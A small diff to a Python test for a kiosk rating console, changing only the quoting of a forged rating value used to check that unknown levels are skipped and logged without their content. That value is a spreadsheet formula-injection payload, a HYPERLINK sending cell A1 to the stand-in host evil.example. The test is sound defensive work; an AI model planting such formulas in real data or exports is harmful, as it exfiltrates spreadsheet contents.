@@ -301,7 +301,7 @@ def test_a_rating_with_a_level_the_kiosk_does_not_have_is_skipped_without_its_co
     """Only the kiosk's RatingLevel values are counted; a forged level (a compromised kiosk's
     formula or script) is skipped and logged without what it said. Names are kept short."""
     rated = {"type": "service_rated", "department": "公安局", "service": "户籍证明"}
-    forged = "=HYPERLINK(\"http://evil.example/?\"&A1)"
+    forged = '=HYPERLINK("http://evil.example/?"&A1)'
     write(
         console_db,
         msg("k1", "event", {**rated, "at": T0, "level": "satisfied", "service": "s" * 1000}, T0),
